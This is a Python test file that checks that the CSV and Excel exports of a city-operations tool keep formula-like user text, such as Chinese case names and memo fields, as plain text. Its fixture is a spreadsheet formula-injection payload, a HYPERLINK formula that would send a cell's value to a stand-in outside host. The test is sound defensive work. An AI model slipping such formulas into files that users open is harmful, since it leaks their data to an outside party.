"""Text typed by users reaches the CSV and Excel exports (the evaluations' names, a briefing's notable cases and
disputes): one that begins like a formula is kept as text, never run by the reader's spreadsheet."""

from io import BytesIO

from openpyxl import load_workbook

from cityops.cases.evaluation_export import Cell, Table, to_csv, to_xlsx

HOSTILE = '=HYPERLINK("http://x.example/?"&B3,"详情")'


def _table():
    return Table("评价", ["名称", "数值", "备注"], [
        [Cell(HOSTILE), Cell(-3), Cell("+86 138")],
        [Cell("青和居排查"), Cell(0.5, "rate"), Cell("@sum(A1)")],
    ])


def test_the_csv_keeps_a_formula_like_text_as_text_and_numbers_as_numbers():
    lines = to_csv(_table()).lstrip("\ufeff").splitlines()
    assert lines[2].startswith("\"'=HYPERLINK(") and ",-3," in lines[2] and lines[2].endswith("'+86 138")
    assert lines[3] == "青和居排查,50.0%,'@sum(A1)"


def test_the_workbook_has_no_formula_and_the_text_as_typed():
    ws = load_workbook(BytesIO(to_xlsx(_table()))).active
    assert ws["A3"].value == HOSTILE and ws["A3"].data_type == "s"
    assert ws["B3"].value == -3 and ws["C4"].value == "@sum(A1)"
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
